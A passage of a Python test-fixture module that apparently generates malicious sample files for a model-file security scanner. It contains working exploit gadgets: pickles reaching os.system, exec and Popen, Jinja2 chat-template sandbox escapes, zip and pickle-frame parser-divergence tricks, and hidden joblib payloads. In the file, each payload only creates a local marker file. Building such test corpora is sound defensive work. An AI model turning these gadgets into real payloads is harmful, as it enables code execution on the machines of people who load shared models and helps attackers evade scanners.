"""Malicious samples for the verdict-by-evidence scanner (issue 12), one or more per class.

Every sample names the real loader it fires under (``Sample.loader``);
``tests/scan/test_corpus_fires.py`` runs that loader in a sandboxed child process and asserts the
payload's marker appears. A payload only ever creates its marker file under ``<root>/markers/``
(``touch`` or ``open(path, 'w')``); URL fetchers read a local ``file:`` URL, so nothing reaches the
network. Divergence samples also name a reader that must *not* see the payload
(``Sample.inert_under``), which proves the two readers really disagree.

Loaders (see ``test_corpus_fires.LOADERS``): ``pickle.load`` (C unpickler on a file object),
``pickle.loads`` (C unpickler on bytes), ``torch.load`` (``weights_only=False``), ``joblib.load``,
``numpy.load`` (``allow_pickle=True``, every member of an archive read), ``gguf-jinja`` (the chat
template rendered by an unsandboxed ``jinja2.Environment``, as llama-cpp-python did before
CVE-2024-34359), ``pickle.load+call`` / ``torch.load+call`` (load, then call the stored callable
the way the code using the model would: ``obj["fn"](*obj["args"])`` or ``obj.act(obj.hint)``).
"""

from __future__ import annotations

import io
import marshal
import os
import pickle
import pickletools
import shlex
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from scan_corpus import Sample

__all__ = ["build_malicious"]


# -- pickle opcode builder (protocol 2+ binary and protocol 0 text) -------------------------------


class Op(bytes):
    """Opcodes inserted as they are (a nested call, a global) rather than encoded as a value."""


def _s(text: str) -> bytes:
    data = text.encode()
    if len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + struct.pack("<I", len(data)) + data


def _v(value: object) -> bytes:
    """One value in protocol 2+ opcodes."""
    if isinstance(value, Op):
        return bytes(value)
    if value is None:
        return b"N"
    if isinstance(value, bool):
        return b"\x88" if value else b"\x89"
    if isinstance(value, int):
        if 0 <= value < 256:
            return b"K" + bytes([value])
        return b"J" + struct.pack("<i", value)
    if isinstance(value, float):
        return b"G" + struct.pack(">d", value)
    if isinstance(value, str):
        return _s(value)
    if isinstance(value, bytes):
        if len(value) < 256:
            return b"C" + bytes([len(value)]) + value
        return b"B" + struct.pack("<I", len(value)) + value
    if isinstance(value, list):
        return b"](" + b"".join(_v(item) for item in value) + b"e"
    if isinstance(value, tuple):
        return b"(" + b"".join(_v(item) for item in value) + b"t"
    if isinstance(value, dict):
        return b"}(" + b"".join(_v(k) + _v(v) for k, v in value.items()) + b"u"
    raise TypeError(type(value))


def _g(module: str, name: str) -> Op:
    """STACK_GLOBAL: the import a protocol 4 pickle makes."""
    return Op(_s(module) + _s(name) + b"\x93")


def _c(func: bytes, *args: object) -> Op:
    """``func(*args)`` with REDUCE."""
    return Op(func + b"(" + b"".join(_v(a) for a in args) + b"tR")


def _p4(expr: bytes) -> bytes:
    return b"\x80\x04" + expr + b"."


def _g0(module: str, name: str) -> Op:
    """GLOBAL, the text opcode of protocols 0 and 1 (and still valid in any protocol)."""
    return Op(f"c{module}\n{name}\n".encode())


def _v0(value: object) -> bytes:
    """One value in protocol 0 (text) opcodes; bytes as ``_codecs.encode(text, 'latin1')``."""
    if isinstance(value, Op):
        return bytes(value)
    if value is None:
        return b"N"
    if isinstance(value, int):
        return b"I%d\n" % value
    if isinstance(value, float):
        return b"F" + repr(value).encode() + b"\n"
    if isinstance(value, str):
        escaped = value.replace("\\", "\\u005c").replace("\n", "\\u000a")
        return b"V" + escaped.encode("raw_unicode_escape") + b"\n"
    if isinstance(value, bytes):
        return _c0(_g0("_codecs", "encode"), value.decode("latin-1"), "latin1")
    if isinstance(value, list):
        return b"(" + b"".join(_v0(item) for item in value) + b"l"
    if isinstance(value, tuple):
        return b"(" + b"".join(_v0(item) for item in value) + b"t"
    if isinstance(value, dict):
        return b"(" + b"".join(_v0(k) + _v0(v) for k, v in value.items()) + b"d"
    raise TypeError(type(value))


def _c0(func: bytes, *args: object) -> Op:
    return Op(func + b"(" + b"".join(_v0(a) for a in args) + b"tR")


# -- payload text ---------------------------------------------------------------------------------


def _touch(marker: Path) -> str:
    return f"touch {shlex.quote(str(marker))}"


def _code(marker: Path) -> str:
    """Python source (also a valid expression) that creates the marker."""
    return f"open({str(marker)!r}, 'w').close()"


def _os_system(marker: Path, *, protocol: int = 4) -> bytes:
    """A complete pickle that runs ``os.system('touch marker')``."""
    if protocol == 0:
        return _c0(_g0("os", "system"), _touch(marker)) + b"."
    return _p4(_c(_g("os", "system"), _touch(marker)))


class _Reduce:
    """Pickles as ``func(*args)`` without the pickling process ever calling ``func``."""

    def __init__(self, func: Callable[..., object], *args: object) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.func, self.args


# -- zip helpers: archives built byte by byte, so two readers can be made to disagree -------------


def _zip_members(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [(info.filename, archive.read(info)) for info in archive.infolist()]


def _local(name: str, data: bytes) -> bytes:
    raw = name.encode()
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, zlib.crc32(data),
                       len(data), len(data), len(raw), 0) + raw + data


def _central(name: str, data: bytes, offset: int) -> bytes:
    raw = name.encode()
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0x21,
                       zlib.crc32(data), len(data), len(data), len(raw), 0, 0, 0, 0, 0,
                       offset) + raw


def _eocd(count: int, size: int, offset: int) -> bytes:
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, size, offset, 0)


def _zip64_eocd(count: int, size: int, offset: int) -> bytes:
    return struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count, size, offset)


def _zip64_locator(offset: int) -> bytes:
    return struct.pack("<IIQI", 0x07064B50, 0, offset, 1)


def _locals(members: list[tuple[str, bytes]], start: int = 0) -> tuple[bytes, list[int]]:
    blob = b""
    offsets = []
    for name, data in members:
        offsets.append(start + len(blob))
        blob += _local(name, data)
    return blob, offsets


def _cd(members: list[tuple[str, bytes]], offsets: list[int]) -> bytes:
    return b"".join(_central(n, d, o) for (n, d), o in zip(members, offsets, strict=True))


def _torch_zip_zip64_divergent(benign: bytes, payload: bytes) -> bytes:
    """Two central directories: ``zipfile`` takes the zip64 record just before the locator (the
    benign one), PyTorch's miniz reader follows the locator's offset (to the payload's)."""
    members = _zip_members(benign)
    pkl = next(n for n, _ in members if n.endswith("/data.pkl"))
    evil = [(n, payload if n == pkl else d) for n, d in members]
    blob, offsets = _locals(members)
    evil_offset = len(blob)
    blob += _local(pkl, payload)
    cd_evil = _cd(evil, [evil_offset if n == pkl else o for (n, _), o in zip(members, offsets,
                                                                               strict=True)])
    cd_evil_offset = len(blob)
    blob += cd_evil
    zip64_evil_offset = len(blob)
    blob += _zip64_eocd(len(members), len(cd_evil), cd_evil_offset)
    cd_benign = _cd(members, offsets)
    cd_benign_offset = len(blob)
    blob += cd_benign + _zip64_eocd(len(members), len(cd_benign), cd_benign_offset)
    blob += _zip64_locator(zip64_evil_offset)
    return blob + _eocd(len(members), len(cd_benign), cd_benign_offset)


def _torch_zip_prepended_divergent(benign: bytes, payload: bytes) -> bytes:
    """Data prepended before a benign archive. ``zipfile`` shifts every offset by the prepended
    length (computed from where the end record sits); miniz takes the stored offsets as absolute,
    which land on a second central directory inside the prepended data, pointing at the payload."""
    members = _zip_members(benign)
    pkl = next(n for n, _ in members if n.endswith("/data.pkl"))
    z_locals, relative = _locals(members)
    size = len(_cd(members, relative))
    evil_local = _local(pkl, payload)
    cd_at = max(len(evil_local), len(z_locals))  # >= len(z_locals): stored offsets stay >= 0
    prefix_len = cd_at + size
    evil = [(n, payload if n == pkl else d) for n, d in members]
    cd_evil = _cd(evil, [0 if n == pkl else prefix_len + r for (n, _), r in zip(members, relative,
                                                                                 strict=True)])
    assert len(cd_evil) == size
    prefix = evil_local + b"\0" * (cd_at - len(evil_local)) + cd_evil
    # zipfile: concat = prefix_len + len(z_locals) - cd_at; header at stored + concat.
    cd_benign = _cd(members, [r + cd_at - len(z_locals) for r in relative])
    return prefix + z_locals + cd_benign + _eocd(len(members), size, cd_at)


# -- FRAME boundary: the C unpickler reading a file drops the rest of a frame ----------------------


def _frame_straddle(payload_ops: bytes, *, fires_for: str) -> bytes:
    """A protocol 4 pickle whose SHORT_BINUNICODE argument starts inside a FRAME and ends after it.

    The C unpickler on a file object reads the whole frame with ``read()``; when a string argument
    runs past the frame's end it reads the argument afresh from the file, dropping the bytes left
    in the frame (``_Unpickler_ReadImpl``; byte strings go through ``_Unpickler_ReadInto``, which
    keeps them, so the opcode must be a text one). ``payload_ops`` must be ASCII: in one reading
    it is part of the string. ``pickle.loads`` reads on across the boundary. So the two read
    different opcodes after the argument: ``fires_for="file"`` puts the payload where only the
    file reader goes, ``fires_for="bytes"`` where only the bytes reader goes. (The pure-Python
    unpickler refuses the stream: "pickle exhausted before end of frame".)
    """
    pad = 1 << 17  # larger than any read-ahead: the frame is read with read(), not peek()
    if fires_for == "file":
        kept, length = 1, 10
        after = b"x" * (length - kept) + b"." + payload_ops + b"."
    else:
        kept = len(payload_ops) + 1
        length = kept + 4
        after = b"x" * (length - kept) + payload_ops + b"." + b"."
    assert length < 256
    payload_ops.decode("ascii")
    body = (b"B" + struct.pack("<I", pad) + b"\0" * pad + b"0"
            + b"\x8c" + bytes([length]) + b"k" * kept)
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body + after


# -- GGUF chat templates that reach os through Jinja -----------------------------------------------

_CHATML_HEAD = (
    "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + "
    "message['content'] + '<|im_end|>' + '\\n' }}{% endfor %}"
)


def _templates(marker: Callable[[str], Path]) -> dict[str, tuple[str, str]]:
    """name -> (template, note). Each renders ``touch <marker>`` through ``os`` when rendered by
    an unsandboxed Jinja2 environment."""

    def t(name: str) -> str:
        return _touch(marker(name)).replace("'", "\\'")

    out: dict[str, tuple[str, str]] = {}
    name = "gguf_attr_concat.gguf"
    out[name] = (
        "{% set g = lipsum|attr('_' ~ '_glo' ~ 'bals_' ~ '_') %}"
        f"{{{{ g['o' ~ 's'].system('{t(name)}') }}}}",
        "attr() with a name built by ~ concatenation",
    )
    name = "gguf_attr_hex_escape.gguf"
    out[name] = (
        "{{ (cycler|attr('\\x5f\\x5finit\\x5f\\x5f')|attr('\\x5f\\x5fglobals\\x5f\\x5f'))"
        f"['os'].popen('{t(name)}').read() }}}}",
        "attr() with \\x5f escapes for the underscores",
    )
    name = "gguf_map_attribute.gguf"
    out[name] = (
        "{% for g in [lipsum]|map(attribute='_' * 2 ~ 'globals' ~ '_' * 2) %}"
        f"{{{{ g.os.system('{t(name)}') }}}}{{% endfor %}}",
        "map(attribute=...) with a computed name",
    )
    name = "gguf_format_underscore.gguf"
    out[name] = (
        "{% set u = '%c'|format(95) %}{% set n = u ~ u ~ 'globals' ~ u ~ u %}"
        f"{{{{ (joiner|attr(u ~ u ~ 'init' ~ u ~ u)|attr(n)).os.system('{t(name)}') }}}}",
        "underscore made by the format filter",
    )
    name = "gguf_join_filter.gguf"
    out[name] = (
        "{% set name = ['_', '_glob', 'als_', '_']|join %}"
        f"{{{{ (lipsum|attr(name))['os']['system']('{t(name)}') }}}}",
        "attribute name assembled by the join filter",
    )
    name = "gguf_dunder_direct.gguf"
    out[name] = (
        f"{{{{ cycler.__init__.__globals__.os.system('{t(name)}') }}}}",
        "plain dunder chain",
    )
    name = "gguf_subclasses_wrap_close.gguf"
    out[name] = (
        "{% for c in ''.__class__.__mro__[1].__subclasses__() %}"
        "{% if c.__name__ == '_wrap_close' %}"
        f"{{{{ c.__init__.__globals__['system']('{t(name)}') }}}}"
        "{% endif %}{% endfor %}",
        "object subclasses walk to os._wrap_close (the published CVE-2024-34359 proof shape)",
    )
    name = "gguf_chatml_hidden_payload.gguf"
    out[name] = (
        _CHATML_HEAD + "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}"
        "{% set x = namespace|attr('_' ~ '_init_' ~ '_') %}"
        f"{{{{ (x|attr('_' ~ '_globals_' ~ '_'))['os'].system('{t(name)}') }}}}"
        "{% endif %}",
        "a mainstream ChatML template with the payload in the generation-prompt branch",
    )
    name = "gguf_self_context.gguf"
    out[name] = (
        "{{ self._TemplateReference__context.cycler.__init__.__globals__.os"
        f".system('{t(name)}') }}}}",
        "reaches the globals through the template's own context",
    )
    return out


# -- the samples ----------------------------------------------------------------------------------


def build_malicious(root: Path, only: set[str] | None = None) -> list[Sample]:
    """Write the issue-12 malicious samples under ``root/malicious``, markers in ``root/markers``
    (``only``: just these names)."""
    markers = root / "markers"
    mal = root / "malicious"
    markers.mkdir(parents=True, exist_ok=True)
    mal.mkdir(parents=True, exist_ok=True)
    samples: list[Sample] = []

    def want(name: str) -> bool:
        return only is None or name in only

    def m(name: str) -> Path:
        return markers / name

    def add(name: str, data: bytes | Callable[[Path], object], *, loader: str, category: str,
            expect: str = "dangerous", subject: str = "", marker: Path | None = None,
            inert_under: str = "", note: str = "") -> None:
        if not want(name):
            return
        path = mal / name
        if isinstance(data, bytes):
            path.write_bytes(data)
        else:
            data(path)
        samples.append(Sample(name, path, True, expect, subject, marker or m(name), note,
                              loader=loader, inert_under=inert_under, category=category))

    # 1. Private stdlib helpers that spawn processes or run source.
    cat = "private stdlib helper: spawns or runs source"
    name = "stdlib_osx_support_read_output.pkl"
    add(name, _p4(_c(_g("_osx_support", "_read_output"), _touch(m(name)))), loader="pickle.load",
        category=cat, subject="_read_output", note="runs a shell command line via os.system")
    name = "stdlib_ensurepip_run_pip.pkl"
    add(name, _p4(_c(_g("ensurepip", "_run_pip"),
                     f"[]; {_code(m(name))}; raise SystemExit(0)")),
        loader="pickle.load", category=cat, subject="_run_pip",
        note="its argument is pasted into 'python -c' source: a str injects code")
    name = "stdlib_runpy_run_module_code.pkl"
    add(name, _p4(_c(_g("runpy", "_run_module_code"), _code(m(name)), {}, "corpus")),
        loader="pickle.load", category=cat, subject="_run_module_code")
    name = "stdlib_dataclasses_create_fn.pkl"
    add(name, _p4(_c(_g("dataclasses", "_create_fn"), "f", [f"x={_code(m(name))}"], ["pass"])),
        loader="pickle.load", category=cat, subject="_create_fn",
        note="exec of generated source; the payload is a parameter default")
    name = "stdlib_pydoc_pipepager.pkl"
    add(name, _p4(_c(_g("pydoc", "pipepager"), "", _touch(m(name)))), loader="pickle.load",
        category=cat, subject="pipepager", note="Popen(cmd, shell=True)")
    name = "stdlib_doctest_docstring.pkl"
    add(name, _p4(_c(_g("doctest", "run_docstring_examples"), f">>> {_code(m(name))}\n", {})),
        loader="pickle.load", category=cat, subject="run_docstring_examples",
        note="a str is its own docstring: the examples run")
    name = "stdlib_trace_runctx_unbound.pkl"
    add(name, _p4(_c(_g("trace", "Trace.runctx"), _c(_g("trace", "Trace"), 0, 0), _code(m(name)),
                     {}, {})),
        loader="pickle.load", category=cat, subject="runctx",
        note="an unbound method reached by a dotted name, its instance built by another call")
    name = "stdlib_cprofile_runctx.pkl"
    add(name, _p4(_c(_g("cProfile", "runctx"), _code(m(name)), {}, {})), loader="pickle.load",
        category=cat, subject="runctx")
    name = "stdlib_asyncio_subprocess_shell.pkl"
    add(name, _p4(_c(_g("asyncio", "run"), _c(_g("asyncio", "create_subprocess_shell"),
                                               _touch(m(name))))),
        loader="pickle.load", category=cat, subject="create_subprocess_shell",
        note="a coroutine built by one call, run by another")

    # 2. Standard-library internals that eval/exec a string.
    cat = "stdlib internal: eval/exec of a string"
    name = "stdlib_typing_forwardref_eval.pkl"
    add(name, _p4(_c(_g("typing", "_eval_type"), _c(_g("typing", "ForwardRef"), _code(m(name))),
                     {}, {})),
        loader="pickle.load", category=cat, subject="_eval_type",
        note="ForwardRef compiles the string, _eval_type evals it")
    name = "stdlib_logging_dictconfig_factory.pkl"
    add(name, _p4(_c(_g("logging.config", "dictConfig"), {
        "version": 1, "handlers": {"h": {"()": "subprocess.Popen", "args": ["touch",
                                                                            str(m(name))]}}})),
        loader="pickle.load", category=cat, subject="dictConfig",
        note="the '()' key imports a factory by dotted name and calls it")
    name = "stdlib_logging_dictconfig_filehandler.pkl"
    add(name, _p4(_c(_g("logging.config", "dictConfig"), {
        "version": 1, "handlers": {"h": {"class": "logging.FileHandler",
                                         "filename": str(m(name))}}})),
        loader="pickle.load", category=cat, subject="dictConfig",
        note="a configuration that names a file-writing class")
    name = "stdlib_marshal_functiontype.pkl"
    code_bytes = marshal.dumps(compile(_code(m(name)), "<corpus>", "exec"))
    add(name, _p4(_c(_c(_g("types", "FunctionType"), _c(_g("marshal", "loads"), code_bytes), {}))),
        loader="pickle.load", category=cat, subject="FunctionType",
        note="a function built from marshalled bytecode, then called")
    name = "stdlib_logging_config_resolve.pkl"
    add(name, _p4(_c(_c(_g("logging.config", "_resolve"), "os.system"), _touch(m(name)))),
        loader="pickle.load", category="import by dotted name (stdlib)", subject="_resolve")

    # 3. Import-by-dotted-name helpers inside ML libraries; code runners inside them.
    cat = "ML library: import by dotted name / runs source"
    name = "torch_utils_import_dotted_name.pkl"
    add(name, _p4(_c(_c(_g("torch._utils", "_import_dotted_name"), "os.system"),
                     _touch(m(name)))),
        loader="pickle.load", category=cat, subject="_import_dotted_name")
    name = "torch_fx_reduce_graph_module.pkl"
    add(name, _p4(_c(_g("torch.fx.graph_module", "reduce_graph_module"),
                     {"_code": "def forward(self):\n    pass\n"}, _code(m(name)) + "\n")),
        loader="pickle.load", category=cat, subject="reduce_graph_module",
        note="how torch.fx GraphModules pickle: the import block is exec'd")
    name = "torch_collect_env_run.pkl"
    add(name, _p4(_c(_g("torch.utils.collect_env", "run"), _touch(m(name)))),
        loader="pickle.load", category=cat, subject="collect_env",
        note="Popen(command, shell=True) inside torch")
    name = "numpy_f2py_os_system.pkl"
    add(name, _p4(_c(_g("numpy.f2py", "os.system"), _touch(m(name)))), loader="pickle.load",
        category="dotted path under an allowed top-level module", subject="system")

    # 4. Dotted submodule paths under an allowed top-level module.
    cat = "dotted path under an allowed top-level module"
    name = "dotted_torch_serialization_os_system.pkl"
    add(name, _p4(_c(_g("torch", "serialization.os.system"), _touch(m(name)))),
        loader="pickle.load", category=cat, subject="system")
    name = "dotted_numpy_lib_utils_os_system.pkl"
    add(name, _p4(_c(_g("numpy", "lib._utils_impl.os.system"), _touch(m(name)))),
        loader="pickle.load", category=cat, subject="system")
    name = "dotted_argparse_private_os.pkl"
    add(name, _p4(_c(_g("argparse", "_os.system"), _touch(m(name)))), loader="pickle.load",
        category=cat, subject="system", note="argparse (home of the safe Namespace) imports os")
    name = "dotted_pathlib_posixpath_touch.pkl"
    add(name, _p4(_c(_g("pathlib", "PosixPath.touch"), _c(_g("pathlib", "PosixPath"),
                                                           str(m(name))))),
        loader="pickle.load", category=cat, subject="touch",
        note="a safe data class, a file-writing method")
    name = "dotted_rebuild_tensor_globals.pkl"
    add(name, _p4(_c(_c(_c(_g("torch._utils", "_rebuild_tensor_v2.__globals__.get"),
                           "_import_dotted_name"), "os.system"), _touch(m(name)))),
        loader="pickle.load", category=cat, subject="__globals__",
        note="from the allow-listed tensor rebuild function to its module's globals")
    name = "dotted_torch_untyped_storage_from_file.pkl"
    add(name, _p4(_c(_g("torch", "UntypedStorage.from_file"), str(m(name)), True, 16)),
        loader="pickle.load", category=cat, subject="from_file",
        note="a storage class (allowed) and its file-creating class method")
    name = "dotted_global_opcode_proto4.pkl"
    add(name, b"\x80\x04" + _c(_g0("torch", "serialization.os.system"), _touch(m(name))) + b".",
        loader="pickle.load", category=cat, subject="system",
        note="text GLOBAL opcode; dotted names resolve because PROTO says 4")

    # 5. Expression parsers and template engines.
    cat = "expression parser / template engine"
    name = "sympy_sympify.pkl"
    add(name, _p4(_c(_g("sympy", "sympify"), _code(m(name)))), loader="pickle.load",
        category=cat, subject="sympify", note="sympify strings go through eval")
    name = "sympy_parser_eval_expr.pkl"
    add(name, _p4(_c(_g("sympy.parsing.sympy_parser", "eval_expr"), _code(m(name)), {}, {})),
        loader="pickle.load", category=cat, subject="eval_expr")
    name = "jinja2_template_render.pkl"
    add(name, _p4(_c(_g("jinja2", "Template.render"), _c(_g("jinja2", "Template"),
        "{{ cycler.__init__.__globals__.os.system('" + _touch(m(name)) + "') }}"))),
        loader="pickle.load", category=cat, subject="jinja2",
        note="a template object and its unbound render method")

    # 6. File writers and URL fetchers from the ML libraries themselves (and the stdlib).
    cat = "file writer / URL fetcher"
    name = "torch_save_writer.pkl"
    add(name, _p4(_c(_g("torch", "save"), 0, str(m(name)))), loader="pickle.load", category=cat,
        subject="save")
    name = "numpy_save_writer.pkl"
    add(name, _p4(_c(_g("numpy", "save"), str(m(name)), 0)), loader="pickle.load",
        category=cat, subject="save", marker=m(name + ".npy"),
        note="numpy.save appends .npy to the name")
    name = "numpy_memmap_writer.pkl"
    add(name, _p4(_c(_g("numpy", "memmap"), str(m(name)), "uint8", "w+", 0, (1,))),
        loader="pickle.load", category=cat, subject="memmap",
        note="an array class whose constructor creates the file")
    source = mal / "numpy_datasource_fetch.pkl"  # any existing file: the sample itself
    name = "numpy_datasource_fetch.pkl"
    add(name, _p4(_c(_g("numpy.lib._datasource", "open"), f"file://localhost{source}", "r",
                     str(m(name)))),
        loader="pickle.load", category=cat, subject="_datasource",
        note="fetches a URL into a cache folder it creates (file://localhost: no network)")
    name = "torch_hub_download_url_to_file.pkl"
    add(name, _p4(_c(_g("torch.hub", "download_url_to_file"), f"file://{mal / name}",
                     str(m(name)), None, False)),
        loader="pickle.load", category=cat, subject="download_url_to_file")
    name = "joblib_dump_writer.pkl"
    add(name, _p4(_c(_g("joblib", "dump"), 0, str(m(name)))), loader="pickle.load",
        category=cat, subject="dump")
    name = "sklearn_dump_svmlight_writer.pkl"
    add(name, _p4(_c(_g("sklearn.datasets", "dump_svmlight_file"), [[1.0]], [1], str(m(name)))),
        loader="pickle.load", category=cat, subject="dump_svmlight_file")
    name = "stdlib_urlretrieve_file_url.pkl"
    add(name, _p4(_c(_g("urllib.request", "urlretrieve"), f"file://{mal / name}",
                     str(m(name)))),
        loader="pickle.load", category=cat, subject="urlretrieve")
    name = "stdlib_codecs_open_writer.pkl"
    add(name, _p4(_c(_g("codecs", "open"), str(m(name)), "w")), loader="pickle.load",
        category=cat, subject="codecs.open",
        note="codecs is everywhere in benign protocol 2 pickles (_codecs.encode)")
    name = "stdlib_gzip_open_writer.pkl"
    add(name, _p4(_c(_g("gzip", "open"), str(m(name)), "wb")), loader="pickle.load",
        category=cat, subject="gzip.open")
    name = "stdlib_sqlite3_connect_writer.pkl"
    add(name, _p4(_c(_g("sqlite3", "connect"), str(m(name)))), loader="pickle.load",
        category=cat, subject="connect")

    # 7. Nested payloads in tensor-storage loaders, without a protocol 2+ marker.
    cat = "nested payload in a tensor-storage loader"
    name = "torch_load_from_bytes_proto0.pkl"
    add(name, pickle.dumps(_Reduce(_load_from_bytes(), _os_system(m(name), protocol=0)),
                           protocol=2),
        loader="pickle.load", category=cat, subject="system|_load_from_bytes",
        note="storage rebuild (torch.load on bytes) of a protocol 0 pickle: no \\x80 opcode")
    name = "torch_load_from_bytes_proto1.pkl"
    add(name, pickle.dumps(_Reduce(_load_from_bytes(),
                                   pickle.dumps(_Reduce(os.system, _touch(m(name))), protocol=1)),
                           protocol=2),
        loader="pickle.load", category=cat, subject="system|_load_from_bytes",
        note="protocol 1 (binary opcodes, no PROTO)")
    name = "torch_load_from_bytes_in_zip.pt"
    add(name, lambda p: p.write_bytes(_torch_bytes({"w": _state()["layer.weight"], "x": _Reduce(
        _load_from_bytes(), _os_system(m(name), protocol=0))})),
        loader="torch.load", category=cat, subject="system|_load_from_bytes")
    name = "npy_object_proto0.npy"
    add(name, _npy_object(_os_system(m(name), protocol=0)), loader="numpy.load", category=cat,
        subject="system", note="object array whose pickle is protocol 0")
    name = "npz_member_proto0.npz"
    add(name, lambda p: _write_npz(p, {"ok.npy": _npy_bytes(), "evil.npy": _npy_object(
        _os_system(m(name), protocol=0))}), loader="numpy.load", category=cat, subject="system")
    name = "torch_rebuild_from_type_v2_exec.pkl"
    add(name, _p4(_c(_g("torch._tensor", "_rebuild_from_type_v2"), _g("builtins", "exec"),
                     _g("torch", "Tensor"), (_code(m(name)),), {})),
        loader="pickle.load", category="dangerous callable referenced, called by a safe one",
        subject="exec", note="the tensor rebuild helper calls its first argument")

    # 8. PyTorch zips that torch.load and zipfile read differently.
    cat = "zip divergence: torch.load vs zipfile"
    name = "torch_zip_zip64_locator_divergent.pt"
    add(name, lambda p: p.write_bytes(_torch_zip_zip64_divergent(
        _torch_bytes(_state()), _os_system(m(name), protocol=2))),
        loader="torch.load", inert_under="zipfile", category=cat, expect="malformed",
        note="zip64 locator points at a second central directory")
    name = "torch_zip_prepended_cd_divergent.pt"
    add(name, lambda p: p.write_bytes(_torch_zip_prepended_divergent(
        _torch_bytes(_state()), _os_system(m(name), protocol=2))),
        loader="torch.load", inert_under="zipfile", category=cat, expect="malformed",
        note="prepended data holds the central directory miniz reads")
    name = "torch_zip_prepended_pickle.pt"
    add(name, lambda p: p.write_bytes(_os_system(m(name), protocol=2) + _torch_bytes(_state())),
        loader="torch.load", inert_under="zipfile", category=cat, expect="malformed",
        note="not 'PK' at offset 0: torch.load unpickles the prepended bytes (legacy path)")
    name = "torch_zip_frame_straddle.pt"
    add(name, lambda p: p.write_bytes(_replace_zip_member(_torch_bytes(_state()), "data.pkl",
        _frame_straddle(_c0(_g0("os", "system"), _touch(m(name))), fires_for="file"))),
        loader="torch.load", inert_under="pickle.loads-member", category=cat,
        expect="malformed", note="data.pkl is read from a BytesIO (no peek): FRAME divergence")

    # 9. joblib payloads compressed with lzma/zlib/... under names that say nothing.
    cat = "joblib compressed, any file name"
    for name, method in (("joblib_lzma_payload.bin", "lzma"), ("joblib_zlib_payload.model", "zlib"),
                         ("joblib_xz_payload.model", "xz"), ("joblib_bz2_payload.bin", "bz2"),
                         ("joblib_gzip_payload.bin", "gzip")):
        add(name, lambda p, n=name, meth=method: _joblib_dump(
            {"coef": _array(), "evil": _Reduce(os.system, _touch(m(n)))}, p, (meth, 3)),
            loader="joblib.load", category=cat, subject="system")

    # 10. GGUF chat templates that reach os.
    for name, (template, note) in _templates(m).items():
        add(name, lambda p, t=template: _gguf(p, t), loader="gguf-jinja",
            category="GGUF chat template reaches os (CVE-2024-34359 class)",
            subject="chat_template", note=note)

    # 10b. The same payloads in Hugging Face form: the second of a tokenizer_config.json's named
    # templates (beside a mainstream ChatML one), and a chat_template.jinja beside the config.
    # They fire when the template is rendered without a sandbox (the Jinja2 default) and are
    # refused by transformers' own rendering (ImmutableSandboxedEnvironment): the same threat
    # model as GGUF's, a sandbox escape through a gadget the sandbox misses.
    cat = "Hugging Face chat template reaches os (sandbox escape class)"
    for form in ("json", "jinja"):
        for gguf_name, (template, note) in _templates(
            lambda n, f=form: m(f"hf_{f}_{n.removesuffix('.gguf')}")
        ).items():
            stem = gguf_name.removeprefix("gguf_").removesuffix(".gguf")
            file = "tokenizer_config.json" if form == "json" else "chat_template.jinja"
            add(f"hf_{form}_{stem}/{file}",
                lambda p, f=form, t=template: _hf_template_folder(p.parent, f, t),
                loader="hf-template-jinja", inert_under="transformers-chat-template",
                category=cat, marker=m(f"hf_{form}_{gguf_name.removesuffix('.gguf')}"),
                subject="chat_template[1].template" if form == "json" else file, note=note)

    # 11. FRAME boundary divergence between pickle.load(file) and pickle.loads(bytes).
    cat = "FRAME divergence: file vs bytes unpickler"
    name = "frame_straddle_file_only.pkl"
    add(name, _frame_straddle(_c0(_g0("os", "system"), _touch(m(name))), fires_for="file"),
        loader="pickle.load", inert_under="pickle.loads", category=cat, expect="malformed",
        note="pickle.load(file) runs the payload, pickle.loads(bytes) returns bytes")
    name = "frame_straddle_bytes_only.pkl"
    add(name, _frame_straddle(_c0(_g0("os", "system"), _touch(m(name))), fires_for="bytes"),
        loader="pickle.loads", inert_under="pickle.load", category=cat, expect="malformed",
        note="the reverse: only pickle.loads(bytes) runs it")

    # 12. A dangerous callable merely referenced (stored, not called by the pickle).
    cat = "dangerous callable referenced, not called"
    name = "referenced_os_system_in_dict.pkl"
    add(name, _p4(_v({"fn": _g("os", "system"), "args": [_touch(m(name))]})),
        loader="pickle.load+call", category=cat, subject="system",
        note="the code using the file calls obj['fn'](*obj['args'])")
    name = "referenced_in_torch_module.pt"
    add(name, lambda p: _torch_module_with_act(p, os.system, _touch(m(name))),
        loader="torch.load+call", category=cat, subject="system",
        note="full-model torch.save with self.act = os.system (like self.act = F.gelu)")
    name = "referenced_map_list.pkl"
    add(name, _p4(_c(_g("builtins", "list"), _c(_g("builtins", "map"), _g("os", "system"),
                                               [_touch(m(name))]))),
        loader="pickle.load", category=cat, subject="system",
        note="os.system is only an argument; map and list call it")
    name = "referenced_copyreg_reconstructor_popen.pkl"
    add(name, _p4(_c(_g("copyreg", "_reconstructor"), _g("subprocess", "Popen"),
                     _g("subprocess", "Popen"), ["touch", str(m(name))])),
        loader="pickle.load", category=cat, subject="Popen",
        note="protocol 0/1 object rebuild helper; it calls base.__init__")

    # 13. Protocol 0 variants (no PROTO opcode at all).
    cat = "protocol 0 variant"
    name = "proto0_import_dotted_name.pkl"
    add(name, _c0(_c0(_g0("torch._utils", "_import_dotted_name"), "os.system"),
                  _touch(m(name))) + b".",
        loader="pickle.load", category=cat, subject="_import_dotted_name")
    name = "proto0_run_module_code.pkl"
    add(name, _c0(_g0("runpy", "_run_module_code"), _code(m(name)), {}, "corpus") + b".",
        loader="pickle.load", category=cat, subject="_run_module_code")
    name = "proto0_load_from_bytes.pkl"
    add(name, _c0(_g0("torch.storage", "_load_from_bytes"),
                  _os_system(m(name), protocol=0)) + b".",
        loader="pickle.load", category=cat, subject="system|_load_from_bytes",
